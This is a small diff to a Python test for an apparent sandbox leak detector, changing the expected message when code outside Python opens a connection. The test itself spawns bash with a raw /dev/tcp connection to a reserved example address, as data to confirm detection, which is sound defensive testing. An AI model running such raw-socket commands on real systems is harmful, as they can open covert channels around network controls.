@@ -214,7 +214,7 @@ def test_what_tries_to_send_without_python_is_told(namespaces: Shield):
     send = "exec 3<>/dev/tcp/192.0.2.1/80"
     python(namespaces, f"import subprocess; subprocess.run(['bash', '-c', {send!r}])")
     assert [each.what for each in namespaces.leaks()] == [
-        "connection by a program or library that is not Python"
+        "connection or look-up of a name, by code that is not Python"
     ]
 
 
